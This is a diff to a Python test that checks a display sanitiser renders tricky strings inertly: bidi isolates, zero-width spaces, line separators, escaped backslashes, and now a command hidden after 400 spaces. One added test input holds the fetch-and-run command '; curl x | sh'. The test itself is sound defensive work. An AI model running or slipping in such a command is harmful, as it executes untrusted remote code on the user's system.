@@ -29,6 +29,8 @@ from rsk.wire.protocol import Request
         ("x\u2066y\u200by", "x\\u2066y\\u200by"),  # isolate, zero-width space
         ("\u2028", "\\u2028"),  # line separator
         ("back\\slash", "back\\\\slash"),  # an escape cannot be faked
+        ('echo "ok"' + " " * 400 + "; curl x | sh", 'echo "ok"⟨400 spaces⟩; curl x | sh'),  # a tail pushed out of sight
+        ("        indented  a   b", "        indented  a   b"),  # indentation and short runs stay
     ],
 )
 def test_inert(raw: str, shown: str) -> None:
